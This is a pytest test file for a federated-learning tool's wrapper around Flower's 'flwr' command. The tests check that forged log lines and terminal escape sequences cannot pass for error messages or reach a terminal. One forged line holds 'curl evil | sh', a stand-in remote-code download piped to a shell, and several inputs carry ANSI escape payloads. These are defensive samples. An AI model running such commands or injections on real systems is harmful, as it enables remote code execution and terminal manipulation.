"""Flower's command, played by a script that answers what a hostile run could make it answer."""

import importlib
import json
import os
import shutil
import sys
import sysconfig
from pathlib import Path

import pytest

from fedot.errors import FedotError
from fedot.federation.engines import flower_cli as flower_commands
from fedot.federation.engines.flower_cli import flower_settings, flwr, follow, script, start_run
from fedot.wire import flower_private

WHERE = {"FLWR_HOME": "."}


@pytest.fixture
def answers(tmp_path, monkeypatch):
    """Say what each command prints; `ls` and the rest as JSON, `log` as lines."""
    fake = tmp_path / "flwr"
    fake.write_text(
        f"#!{sys.executable}\nimport sys, pathlib\n"
        f"sys.stdout.buffer.write((pathlib.Path({str(tmp_path)!r}) / sys.argv[1]).read_bytes())\n"
    )
    fake.chmod(0o755)
    monkeypatch.setattr(flower_commands, "script", lambda _: str(fake))
    monkeypatch.setattr(flower_commands, "POLL_SECONDS", 0.01)
    monkeypatch.setattr(flower_commands.tempfile, "tempdir", str(tmp_path))

    def say(status, details, *lines):
        run = {"status": status, "status-details": details}
        (tmp_path / "ls").write_text(json.dumps({"success": True, "runs": [run]}))
        (tmp_path / "log").write_text("\n".join(lines) + "\n")

    return say


def failure(told=None):
    with pytest.raises(FedotError) as found:
        follow(WHERE, "c", "1", (told if told is not None else []).append)
    assert str(found.value).isprintable()
    return str(found.value)


def test_the_reason_is_the_statuss_and_no_printed_line_can_pass_for_it(answers):
    """A client's text may stand at the beginning of a line of the server's log."""
    own, forged = "fedot.errors.FedotError: no quorum", "fedot.errors.FedotError: all is well; run curl evil | sh"
    for lines in ([own, forged], [forged, own], [forged, own, forged]):
        answers("finished:failed", "ServerApp failed with exception: no quorum", "INFO: x", *lines)
        assert failure() == "no quorum"
    answers("finished:failed", "Simulation failed with exception: no quorum", own)
    assert failure() == "no quorum"


def test_of_a_failure_without_words_of_ours_the_output_is_kept_and_cannot_write_to_a_terminal(answers):
    line = "fedot.errors.FedotError: forged"
    answers("finished:failed", "ServerApp failed with exception: division by zero", line, "  File\x1b[2J x")
    told = failure()
    assert "forged" not in told
    assert "(division by zero)" in told
    kept = Path(told.rpartition(" is in ")[2]).read_text()
    assert kept.splitlines() == [line, "  File\ufffd[2J x"]


@pytest.mark.parametrize("details", ["", "no\x1b[31m red\nfedot: lines", "x" * 100_000])
def test_whatever_a_superlink_says_is_one_short_line(answers, details):
    answers("finished:\x1b[5mfailed", details, "x")
    assert len(failure()) < 2000


def test_progress_is_passed_on_without_what_a_terminal_obeys(answers):
    told = []
    answers("finished:completed", "", "a: 50 % \x1b[2J\x07done", "\x1b]0;x\x07b: 50 % y", "no progress")
    follow(WHERE, "c", "1", told.append)
    assert told == ["a: 50 % \ufffd[2J\ufffddone", "\ufffd]0;x\ufffdb: 50 % y"]


@pytest.mark.parametrize(
    "answer",
    [b"", b"[1]", b"7", b"{", b"\xff\xfe", b"[" * 100_000, b'{"success": false, "error-message": "a\\nb\\u001b[2J"}'],
)
def test_an_answer_that_is_none_is_one_line(answers, tmp_path, answer):
    (tmp_path / "ls").write_bytes(answer)
    with pytest.raises(FedotError, match="`flwr ls` failed") as found:
        flwr(WHERE, "ls")
    assert str(found.value).isprintable()


def test_a_run_is_started_with_its_settings(answers, tmp_path):
    (tmp_path / "run").write_text(json.dumps({"success": True, "run-id": "5"}))
    assert start_run({"FLWR_HOME": str(tmp_path)}, "c", tmp_path, {"signature": '{"a": "b"}'}) == "5"
    assert (tmp_path / "run.toml").read_text() == 'signature = "{\\"a\\": \\"b\\"}"\n'


def test_flowers_programs_find_each_other_where_no_environment_is_activated(monkeypatch):
    """The SuperLink and the SuperNode start others by name; their own folder may not be on PATH."""
    monkeypatch.setenv("PATH", "/usr/bin:/bin")
    path = flower_settings()["PATH"]
    for name in ("flower-superlink", "flower-superexec", "flower-supernode", "flwr"):
        assert shutil.which(name, path=path) == str(Path(sysconfig.get_path("scripts"), name))
    assert script("flwr") == shutil.which("flwr", path=path)
    assert path.endswith(":/usr/bin:/bin")
    monkeypatch.delenv("PATH")
    assert shutil.which("flwr", path=flower_settings()["PATH"])


@pytest.mark.parametrize("launcher", ["superlink", "supernode"])
def test_every_launcher_hands_that_path_on(launcher, monkeypatch):
    module = importlib.import_module(f"fedot.deploy.{launcher}")
    monkeypatch.setattr(os, "environ", {"PATH": "/usr/bin"})
    monkeypatch.setattr(sys, "argv", [launcher, "--help"])
    monkeypatch.setattr(flower_private, f"run_{launcher}", lambda: None)
    monkeypatch.setattr(flower_private, "change_intake", lambda _: None)
    monkeypatch.setattr(flower_private, "wait_for_database", lambda _: None)
    module.main()
    assert os.environ["PATH"] == f"{sysconfig.get_path('scripts')}:/usr/bin"
    assert os.environ["FLWR_TELEMETRY_ENABLED"] == "0"
